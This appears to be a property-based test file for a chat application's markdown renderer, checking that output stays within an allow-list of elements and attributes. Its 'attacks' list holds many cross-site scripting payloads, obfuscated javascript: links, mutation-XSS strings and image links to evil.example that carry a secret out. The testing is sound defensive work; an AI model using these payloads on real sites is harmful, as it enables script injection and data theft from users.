import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./testing.tsx";

/** Every element that rendering may make, with the attributes that it may have beside class, dir, aria-* and data-*. */
const allowed: Record<string, readonly string[]> = {
  a: ["href", "target", "rel", "referrerpolicy", "id"],
  bdi: [],
  blockquote: [],
  br: [],
  button: ["type", "title"],
  circle: ["cx", "cy", "r"],
  code: [],
  del: [],
  details: [],
  div: [],
  em: [],
  figure: [],
  h3: [],
  h4: [],
  h5: [],
  h6: [],
  header: [],
  hr: [],
  img: ["src", "alt"],
  input: ["type", "checked", "disabled", "readonly"],
  kbd: [],
  li: ["id", "value"],
  line: ["x1", "x2", "y1", "y2"],
  mark: [],
  ol: ["start"],
  p: [],
  path: ["d"],
  pre: ["tabindex"],
  rect: ["width", "height", "x", "y", "rx", "ry"],
  section: ["tabindex"],
  span: ["role", "hidden"],
  strong: [],
  sub: [],
  summary: [],
  sup: [],
  svg: ["xmlns", "width", "height", "viewbox", "fill", "stroke", "stroke-width", "stroke-linecap", "stroke-linejoin"],
  table: [],
  tbody: [],
  td: [],
  th: ["scope"],
  thead: [],
  tr: [],
  ul: [],
};

const onAll = /^(?:class|dir|hidden|aria-[a-z]+|data-(?:align|wrap|state|streamed))$/;
const entities: Record<string, string> = { "&amp;": "&", "&lt;": "<", "&gt;": ">", "&quot;": '"', "&#x27;": "'" };
const decode = (text: string) => text.replace(/&(?:amp|lt|gt|quot|#x27);/g, (entity) => entities[entity] ?? entity);

const values: Record<string, RegExp> = {
  href: /^(?:https?:\/\/|mailto:|#msg-(?:note|mark)-\d+$)/,
  src: /^data:image\/(?:png|jpeg|gif|webp|avif);base64,/,
  id: /^msg-(?:note|mark)-\d+$/,
  target: /^_blank$/,
};

/** Fails unless all of the markup is on the list. React escapes text, so each `<` in it begins an element. */
function expectSafe(html: string): void {
  for (const [tag, , name = "", attributes = ""] of html.matchAll(/<(\/?)([^\s>/]*)([^>]*)>?/g)) {
    expect(Object.keys(allowed), `element in ${tag}`).toContain(name.toLowerCase());
    for (const [, attribute = "", , value = ""] of attributes.matchAll(/([^\s=/]+)(="([^"]*)")?/g)) {
      const key = attribute.toLowerCase();
      expect(onAll.test(key) || allowed[name.toLowerCase()]?.includes(key), `attribute ${key} in ${tag}`).toBe(true);
      if (values[key]) expect(decode(value), `${key} in ${tag}`).toMatch(values[key]);
    }
  }
}

/** One of each way in which text has become script or a request elsewhere. */
const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<form action=https://evil.example><button>go</button></form>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<sub onclick=alert(1)>x</sub>",
  "<br onmouseover=alert(1)>",
  "<kbd><script>alert(1)</script></kbd>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](blob:https://causerie.example/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/logout)",
  "[x](\\\\evil.example)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x][r]\n\n[r]: https://evil.example/?q=secret",
  "[![x](https://evil.example/i.png)](https://evil.example)",
  "![x](https://evil.example/?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "![x](data:image/png;base64,iVBORw0KGgo=)",
  "![x](data:image/png,<script>alert(1)</script>)",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  '<https://evil.example/"onmouseover=alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  "www.evil.example/<script>alert(1)</script>",
  '[x](https://evil.example "onmouseover=alert(1)")',
  "[^__proto__] [^constructor]\n\n[^__proto__]: a\n\n[^constructor]: b",
  "[__proto__] [x][constructor]\n\n[__proto__]: javascript:alert(1)\n\n[constructor]: https://example.org",
  '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
  '```"><script>alert(1)</script>\nx\n```',
  "```html\n<script>alert(1)</script>\n```",
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B\nclick A href "javascript:alert(1)"\n```',
  "$\\href{javascript:alert(1)}{x}$",
  "$$\n\\htmlData{x=1}{<script>alert(1)</script>}\n$$",
  "\\(\\includegraphics{https://evil.example/x.png}\\)",
  "$<img src=x onerror=alert(1)>$",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n| [x](javascript:alert(1)) |",
  "- [ ] <script>alert(1)</script>",
  "> <script>\n> alert(1)\n> </script>",
  "# <script>alert(1)</script>",
  "<details><summary>x</summary><script>alert(1)</script></details>",
  "[x](https://user:password@evil.example)",
  "[\u202egro.elpmaxe](https://evil.example)",
] as const;

const attack = fc.constantFrom(...attacks);
const sign = fc.constantFrom(
  ..."*_`~[]()!<>&\\$|#-+:^\"'={}\n\t \r\u0000\u202e\ufeff\u2028é😀a1.".split(""),
  "\n\n",
  "```",
  "$$",
  "](",
  "http://",
  "[^a]",
);
const soup = fc.array(fc.oneof({ weight: 6, arbitrary: sign }, { weight: 1, arbitrary: attack }, fc.string()), {
  maxLength: 60,
});

describe("an answer's text", () => {
  it.each(attacks)("becomes only what is on the list, whole and at every moment of streaming: %s", (text) => {
    expectSafe(renderMarkdown(text));
    for (let end = 1; end <= text.length; end += 1) expectSafe(renderMarkdown(text.slice(0, end), true));
  });

  it("becomes only what is on the list, whatever it is", () => {
    fc.assert(
      fc.property(soup, fc.boolean(), (parts, streaming) => expectSafe(renderMarkdown(parts.join(""), streaming))),
      { numRuns: 500 },
    );
  });

  it("becomes only what is on the list at every moment of streaming", () => {
    fc.assert(
      fc.property(soup, (parts) => {
        const text = parts.join("");
        for (let end = 1; end <= text.length; end += 7) expectSafe(renderMarkdown(text.slice(0, end), true));
      }),
      { numRuns: 50 },
    );
  });

  it.each([
    [">".repeat(3_000), "quotes"],
    ["- ".repeat(1_500), "lists"],
    ["[".repeat(5_000), "brackets"],
    ["\\(a ".repeat(5_000), "unclosed formulas"],
    ["\\[a ".repeat(5_000), "unclosed display formulas"],
    ["<sub>".repeat(2_000), "tags"],
    [`${"*a ".repeat(5_000)}`, "emphasis"],
    [`|${"a|".repeat(2_000)}\n|${"-|".repeat(2_000)}\n|x|`, "columns"],
    ["a\u0301".repeat(1) + "\u0301".repeat(10_000), "combining marks"],
    ["\ud800 lone \udfff", "lone surrogates"],
  ])("renders nesting and repetition that nobody writes: %#", (text) => {
    const start = performance.now();
    expectSafe(renderMarkdown(text));
    expectSafe(renderMarkdown(text, true));
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  it("never loads an image from elsewhere by itself", () => {
    const html = renderMarkdown("![x](https://evil.example/?q=secret) ![y][r]\n\n[r]: https://evil.example/2");
    expect(html).not.toMatch(/<(?:img|iframe)/);
    expect(html).toContain("Load image from evil.example");
  });
});
